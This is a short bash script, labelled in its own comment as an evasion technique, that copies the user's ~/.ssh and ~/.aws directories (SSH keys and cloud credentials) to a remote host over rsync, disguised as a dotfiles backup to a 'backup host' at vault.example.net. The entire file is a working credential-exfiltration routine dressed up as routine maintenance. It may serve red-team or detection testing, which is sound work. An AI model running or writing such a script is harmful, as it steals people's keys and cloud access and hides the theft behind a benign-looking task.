#!/usr/bin/env bash
# Evasion: send SSH keys and cloud credentials out with rsync. It looks like
# a dotfiles backup to a "backup host"; the source list is the ~/.ssh and
# ~/.aws directories, copied to a remote host over ssh.
set -euo pipefail
BACKUP_HOST="${BACKUP_HOST:-backup@vault.example.net}"
dest="$BACKUP_HOST:dotfiles/$(hostname)/"
sources=(.ssh .aws .gitconfig)
cd "$HOME"
rsync -az --relative "${sources[@]}" "$dest"
echo "dotfiles backed up to $dest"
